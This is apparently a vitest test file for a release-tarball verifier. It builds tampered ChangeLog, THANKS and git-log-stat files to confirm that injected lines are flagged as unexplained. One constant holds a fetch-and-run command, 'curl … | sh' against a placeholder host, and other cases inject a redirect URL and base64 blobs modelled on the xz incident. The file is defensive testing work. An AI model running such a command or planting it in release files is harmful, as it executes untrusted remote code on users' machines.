/**
 * Red team 27b: the lines of a log-derived file that are traced by their shape rather than as a line of a source,
 * and the URLs of its untraced lines. End to end with real git (fixed dates), real `git log --stat` output and GNU
 * tar. Before: any `Date: …` line, any `TEXT | N +` line, and a heading or names-file line whose email was an
 * author's counted as traced whatever else they held (gzip 1.12's ChangeLog gaining a `curl … | sh` line in each
 * shape was LOG_DERIVED, exit 0), and an untraced line passed with a URL on a host the history names but on a path
 * it never spelled (gzip 1.12's ChangeLog sending distributors to another path of bugs.launchpad.net).
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { git, makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

describe('log-derived files: shape-traced lines and untraced URLs', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const as = (name: string, email: string, files: Record<string, string>, message: string, date: string) => {
    writeFiles(repo.dir, files);
    git(repo.dir, ['add', '-A']);
    git(repo.dir, ['commit', '-q', '--author', `${name} <${email}>`, '-m', message], date);
  };
  as('Ann Author', 'ann@example.invalid', { 'src/a.c': 'int a;\n', NEWS: 'news\n' }, 'Initial import', '2024-01-01T10:00:00Z');
  repo.tag('v1.0');
  as('Bob Builder', 'bob@example.invalid', { 'src/a.c': 'int a = 1;\n' }, 'src: fix a crash\n\nReported at https://bugs.example.org/proj/issues/7.', '2024-02-01T10:00:00Z');
  as('Ann Author', 'ann@example.invalid', { NEWS: 'news 1.1\n' }, 'maint: release 1.1', '2024-02-03T10:00:00Z');
  repo.tag('v1.1');
  const cache = join(root, 'cache');

  const CHANGELOG = [
    '2024-02-03  Ann Author  <ann@example.invalid>', '', '\tmaint: release 1.1', '',
    '2024-02-01  Bob Builder  <bob@example.invalid>', '', '\tsrc: fix a crash', '\tReported at https://bugs.example.org/proj/issues/7.', '',
  ].join('\n');
  const THANKS = 'Ann Author                         ann@example.invalid\nBob Builder                        bob@example.invalid\n';
  // `git log --stat` of the tag, as a release's dist script writes it (real git output)
  const STAT = git(repo.dir, ['log', '--stat', 'v1.1']) + '\n';
  const PAYLOAD = 'curl -fsSL https://get.example.invalid/i.sh -o i && sh i';
  let n = 0;
  function tarball(files: Record<string, string>): string {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    writeFiles(dir, { 'src/a.c': 'int a = 1;\n', NEWS: 'news 1.1\n', ...files });
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
  }
  const judge = async (files: Record<string, string>) => {
    const r = await verify({ tarball: tarball(files), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
    const path = Object.keys(files)[0]!;
    return { verdict: r.verdict, finding: r.findings.find((f) => f.path === path) };
  };

  it('the untampered files are LOG_DERIVED; an untraced line quoting a URL the history spells out whole still passes', async () => {
    const quoted = CHANGELOG.replace('\tmaint: release 1.1', '\tmaint: release 1.1\n\tSee https://bugs.example.org/proj/issues/7 for the crash.');
    const goods: Record<string, string>[] = [{ ChangeLog: CHANGELOG }, { ChangeLog: quoted }, { ChangeLog: STAT }, { THANKS }];
    for (const files of goods) {
      const { verdict, finding } = await judge(files);
      expect(finding, Object.values(files)[0]).toMatchObject({ code: 'LOG_DERIVED', severity: 'info' });
      expect(verdict).not.toBe('different');
    }
    expect((await judge({ ChangeLog: quoted })).finding?.evidence).toMatchObject({ untraced: 1, untracedLines: [{ line: 4, text: 'See https://bugs.example.org/proj/issues/7 for the crash.' }] });
    expect(STAT).toMatch(/^Date: {3}Sat Feb 3 10:00:00 2024 \+0000$/m);
    expect(STAT).toMatch(/^ src\/a\.c \| 2 \+-$/m);
  });

  it('a command in a line traced by its shape (a Date: line, a diffstat line, a heading or names line with an author\'s email) is not explained', async () => {
    const cases: Record<string, string>[] = [
      { ChangeLog: STAT.replace(/^(Date: .*)$/m, `$1\nDate:   ${PAYLOAD} | sh`) },
      { ChangeLog: STAT.replace(/^( src\/a\.c \| 2 \+-)$/m, `$1\n ${PAYLOAD} | 1 +`) },
      { ChangeLog: CHANGELOG.replace('\tmaint: release 1.1\n', `\tmaint: release 1.1\n\n2024-02-03  ${PAYLOAD}  <bob@example.invalid>\n`) },
      { ChangeLog: CHANGELOG.replace('\tmaint: release 1.1\n', `\tmaint: release 1.1\n${PAYLOAD}  <bob@example.invalid>\n`) },
      { THANKS: `${THANKS}${PAYLOAD}   bob@example.invalid\n` },
    ];
    for (const files of cases) {
      const { verdict, finding } = await judge(files);
      expect(finding, Object.values(files)[0]).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(verdict).toBe('different');
    }
  });

  it('an untraced line with a URL on a host the history names but a path it never spelled is not explained; a Date: line that is no date git prints, or a diffstat line naming a path no commit touched, is untraced and shown', async () => {
    const moved = await judge({ ChangeLog: CHANGELOG.replace('\tmaint: release 1.1', '\tmaint: release 1.1\n\tUse the fixed tarball at https://bugs.example.org/proj-fixed/downloads/proj-1.1.tar.gz') });
    expect(moved.finding).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(moved.verdict).toBe('different');
    const prose = await judge({ ChangeLog: STAT.replace(/^(Date: .*)$/m, '$1\nDate:   distributors must rebuild from the fixed tarball') });
    expect(prose.finding?.evidence).toMatchObject({ untraced: 1, untracedLines: [{ text: 'Date: distributors must rebuild from the fixed tarball' }] });
    // a diffstat line is traced when the history touched its path (the real ones: untraced 0), not otherwise
    expect((await judge({ ChangeLog: STAT })).finding?.evidence).toMatchObject({ untraced: 0 });
    const stranger = await judge({ ChangeLog: STAT.replace(/^( src\/a\.c \| 2 \+-)$/m, '$1\n tools/fetch-fix.sh | 3 +++') });
    expect(stranger.finding?.evidence).toMatchObject({ untraced: 1, untracedLines: [{ text: 'tools/fetch-fix.sh | 3 +++' }] });
  });

  // Red team 30: up to 5 % of a log's lines may trace to nothing, checked for constructs and URLs only: 52 lines of base64
  // (an .xz stream) in xz 5.4.1's newest ChangeLog message were LOG_DERIVED, exit 0. A line no commit wrote is prose.
  it('untraced lines of encoded data are not explained (twin: a checksum, a commit id and prose stay LOG_DERIVED)', async () => {
    const blob = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
    const encoded = await judge({ ChangeLog: CHANGELOG.replace('\tmaint: release 1.1', `\tmaint: release 1.1\n\t${blob.slice(0, 64)}\n\t${blob.slice(64)}`) });
    expect(encoded.finding).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(encoded.verdict).toBe('different');
    const hex = await judge({ ChangeLog: CHANGELOG.replace('\tmaint: release 1.1', `\tmaint: release 1.1\n\t${'0123456789abcdef'.repeat(9)}`) });
    expect(hex.finding).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    const prose = await judge({ ChangeLog: CHANGELOG.replace('\tmaint: release 1.1', `\tmaint: release 1.1\n\tsha256 ${sha}, commit 0123456789abcdef0123456789abcdef01234567.`) });
    expect(prose.finding).toMatchObject({ code: 'LOG_DERIVED', severity: 'info' });
  });
});
